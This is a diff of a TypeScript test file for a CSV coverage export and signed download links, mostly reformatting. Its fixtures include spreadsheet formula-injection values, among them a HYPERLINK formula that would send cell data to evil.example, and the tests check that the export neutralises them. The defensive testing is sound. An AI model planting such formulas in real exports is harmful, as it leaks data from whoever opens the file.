@@ -1,10 +1,16 @@
 import { createHmac, randomUUID } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
-import type { AddressInfo } from 'node:net';
 import type { Server } from 'restify';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { MemberReport } from '../src/domain/coverage/coverageService.js';
-import { createDownloads, downloadUrl, LINK_LIFETIME_MS, signLink, verifyLink, type DownloadKind } from '../src/http/downloadLinks.js';
+import {
+  createDownloads,
+  downloadUrl,
+  LINK_LIFETIME_MS,
+  signLink,
+  verifyLink,
+  type DownloadKind,
+} from '../src/http/downloadLinks.js';
 import { createServer } from '../src/http/server.js';
 import { memoryStores } from '../src/storage/memory.js';
 import type { Member } from '../src/domain/roster/roster.js';
@@ -48,16 +54,23 @@ const REPORTS: readonly MemberReport[] = [
     due: '2026-11-20',
     reachable: true,
   }),
-  report(member('=HYPERLINK("https://evil.example/?d="&A2,"Click me")', { email: 'mallory@contoso.example', department: '+31 20 123', role: '@SUM(A1:A9)' }), {
-    status: 'in-progress',
-    lessonsDone: 3,
-    correct: 1,
-    answered: 3,
-    due: '2026-11-01',
-    overdue: true,
-    reachable: false,
-    unreachableReason: '-403 ConversationBlockedByUser',
-  }),
+  report(
+    member('=HYPERLINK("https://evil.example/?d="&A2,"Click me")', {
+      email: 'mallory@contoso.example',
+      department: '+31 20 123',
+      role: '@SUM(A1:A9)',
+    }),
+    {
+      status: 'in-progress',
+      lessonsDone: 3,
+      correct: 1,
+      answered: 3,
+      due: '2026-11-01',
+      overdue: true,
+      reachable: false,
+      unreachableReason: '-403 ConversationBlockedByUser',
+    },
+  ),
   report(member('Tab\tbed', { department: '\tFacilities', role: '\r\nReceptionist' })),
   report(member('Said "Quote"\non two lines', { active: false })),
 ];
@@ -90,7 +103,7 @@ const HEADERS = [
 ];
 
 function rows(body: Buffer, delimiter = ','): string[][] {
-  return parse(body, { bom: true, delimiter, relax_column_count: false }) as string[][];
+  return parse(body, { bom: true, delimiter, relax_column_count: false });
 }
 
 describe('the coverage export', () => {
@@ -138,12 +151,24 @@ describe('the coverage export', () => {
     // Nothing answered: no score rather than 0%.
     expect(data[2]?.slice(10, 14)).toEqual(['0', '0', '', '']);
     expect(data[2]?.[18]).toBe('');
-    expect(data[3]?.slice(0, 6)).toEqual(['Said "Quote"\non two lines', 'saidquoteontwolines@contoso.example', 'Facilities', 'Receptionist', 'no', 'not started']);
+    expect(data[3]?.slice(0, 6)).toEqual([
+      'Said "Quote"\non two lines',
+      'saidquoteontwolines@contoso.example',
+      'Facilities',
+      'Receptionist',
+      'no',
+      'not started',
+    ]);
   });
 
   it('neutralises cells Excel would run as a formula', () => {
     const [, , evil, tabbed] = rows(exportCsv(REPORTS));
-    expect(evil?.slice(0, 4)).toEqual(['\'=HYPERLINK("https://evil.example/?d="&A2,"Click me")', 'mallory@contoso.example', "'+31 20 123", "'@SUM(A1:A9)"]);
+    expect(evil?.slice(0, 4)).toEqual([
+      '\'=HYPERLINK("https://evil.example/?d="&A2,"Click me")',
+      'mallory@contoso.example',
+      "'+31 20 123",
+      "'@SUM(A1:A9)",
+    ]);
     expect(tabbed?.slice(0, 4)).toEqual(['Tab\tbed', 'tabbed@contoso.example', "'\tFacilities", "'\r\nReceptionist"]);
     for (const row of rows(exportCsv(REPORTS)).slice(1)) {
       for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
@@ -152,18 +177,33 @@ describe('the coverage export', () => {
 
   it('writes Dutch headers and values, semicolon separated as Dutch Excel expects', () => {
     const [header, first, second] = rows(exportCsv(REPORTS, 'nl'), ';');
-    expect(header?.slice(0, 8)).toEqual(['Naam', 'E-mail', 'Afdeling', 'Functie', 'In personeelsbestand', 'Status', 'Uiterlijk', 'Te laat']);
+    expect(header?.slice(0, 8)).toEqual([
+      'Naam',
+      'E-mail',
+      'Afdeling',
+      'Functie',
+      'In personeelsbestand',
+      'Status',
+      'Uiterlijk',
+      'Te laat',
+    ]);
     expect(first?.slice(2, 8)).toEqual(['Sales, North', 'Office manager', 'ja', 'afgerond', '2026-11-20', 'nee']);
     expect(second?.[0]).toBe('\'=HYPERLINK("https://evil.example/?d="&A2,"Click me")');
     expect(header?.slice(12, 14)).toEqual(['Score eerste poging', 'Alles goed beantwoord op (UTC)']);
   });
 
   it('says who needs to re-acknowledge and how many lessons changed for them, in both languages', () => {
-    const changed = [report(member('Gus'), { status: 'needs-reacknowledge', lessonsChanged: 2, acknowledgedVersion: 'v2026-10' })];
+    const changed = [
+      report(member('Gus'), { status: 'needs-reacknowledge', lessonsChanged: 2, acknowledgedVersion: 'v2026-10' }),
+    ];
     const [, en] = rows(exportCsv(changed));
     expect([en?.[5], en?.at(-1)]).toEqual(['needs to re-acknowledge', '2']);
     const [header, nl] = rows(exportCsv(changed, 'nl'), ';');
-    expect([header?.at(-1), nl?.[5], nl?.at(-1)]).toEqual(['Lessen gewijzigd sinds bevestiging', 'moet opnieuw bevestigen', '2']);
+    expect([header?.at(-1), nl?.[5], nl?.at(-1)]).toEqual([
+      'Lessen gewijzigd sinds bevestiging',
+      'moet opnieuw bevestigen',
+      '2',
+    ]);
   });
 
   it('names the acknowledged version as people saw it, with its hash beside it; no name for one never named', () => {
@@ -226,7 +266,7 @@ describe('the download link', () => {
       }),
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
-    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+    base = `http://127.0.0.1:${server.address().port}/`;
   });
   afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
   beforeEach(() => {
@@ -237,7 +277,16 @@ describe('the download link', () => {
   });
 
   const link = async (userId = HR, kind: DownloadKind = 'export', secret?: string, language: Language = 'en') =>
-    downloadUrl(base, signLink(secret ?? (await settings.secret()), { id: randomUUID(), kind, userId, expiresAt: start.getTime() + LINK_LIFETIME_MS, language }));
+    downloadUrl(
+      base,
+      signLink(secret ?? (await settings.secret()), {
+        id: randomUUID(),
+        kind,
+        userId,
+        expiresAt: start.getTime() + LINK_LIFETIME_MS,
+        language,
+      }),
+    );
   const refused = async (url: string, status: number, message: RegExp) => {
     const response = await fetch(url);
     expect(response.status).toBe(status);
@@ -307,8 +356,19 @@ describe('the download link', () => {
   it('answers 404 for an address that is no link at all', async () => {
     await refused(`${base}downloads/not-a-link`, 404, /no download/);
     expect((await fetch(`${base}downloads/${'a'.repeat(2000)}.${'b'.repeat(43)}`)).status).toBe(404);
-    const unsigned = Buffer.from(JSON.stringify({ k: 'payroll', u: HR, e: start.getTime() + 1000 })).toString('base64url');
-    await refused(downloadUrl(base, `${unsigned}.${createHmac('sha256', await settings.secret()).update(unsigned).digest('base64url')}`), 404, /no download/);
+    const unsigned = Buffer.from(JSON.stringify({ k: 'payroll', u: HR, e: start.getTime() + 1000 })).toString(
+      'base64url',
+    );
+    await refused(
+      downloadUrl(
+        base,
+        `${unsigned}.${createHmac('sha256', await settings.secret())
+          .update(unsigned)
+          .digest('base64url')}`,
+      ),
+      404,
+      /no download/,
+    );
   });
 
   it('answers 500 with a short message when the file cannot be built, and keeps serving', async () => {
@@ -318,7 +378,13 @@ describe('the download link', () => {
 
   it('signs and checks links with the one secret the store keeps', async () => {
     const first = await settings.secret();
-    expect(verifyLink(first, signLink(await settings.secret(), { id: 'l1', kind: 'audit', userId: HR, expiresAt: 2, language: 'nl' }), new Date(1))).toEqual({ ok: true, id: 'l1', kind: 'audit', userId: HR, language: 'nl' });
+    expect(
+      verifyLink(
+        first,
+        signLink(await settings.secret(), { id: 'l1', kind: 'audit', userId: HR, expiresAt: 2, language: 'nl' }),
+        new Date(1),
+      ),
+    ).toEqual({ ok: true, id: 'l1', kind: 'audit', userId: HR, language: 'nl' });
     expect(verifyLink(first, 'x.y.z', new Date(1))).toEqual({ ok: false, reason: 'malformed' });
   });
 });
